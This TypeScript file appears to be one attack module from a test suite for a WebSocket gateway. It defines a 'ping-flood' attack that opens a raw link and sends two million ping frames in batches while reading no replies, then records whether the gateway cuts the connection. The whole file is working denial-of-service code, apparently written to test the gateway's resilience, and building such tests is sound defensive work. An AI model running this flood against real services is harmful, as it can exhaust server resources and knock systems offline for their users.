// A device sends WebSocket pings as fast as it can and reads no answer: every pong waits in the gateway.

import { openRawLink, OPCODE, rawFrame } from '../attacker/raw-link.ts'
import type { Attack } from '../attack.ts'

const PINGS = 2_000_000
const AT_ONCE = 10_000
const HELLO = '{"type":"hello","protocols":[1],"app":"a","boot":"b","engine":"e","models":[]}'

export const pingFlood: Attack = {
  name: 'ping-flood',
  from: 'outside',
  async run({ origin, credentials: [credential = ''] }, tally) {
    const { socket, closed } = await openRawLink(origin, credential, false)
    socket.write(rawFrame(OPCODE.finalText, Buffer.from(HELLO)))
    const pings = Buffer.concat(Array.from({ length: AT_ONCE }, () => rawFrame(OPCODE.finalPing, new Uint8Array(125))))
    for (let sent = 0; sent < PINGS && !socket.destroyed; sent += AT_ONCE) {
      const written = Promise.withResolvers<void>()
      socket.write(pings, () => written.resolve())
      await Promise.race([written.promise, closed])
      tally.count('pings', AT_ONCE)
    }
    tally.count(socket.destroyed ? 'cut' : 'still linked')
    socket.destroy()
  },
}
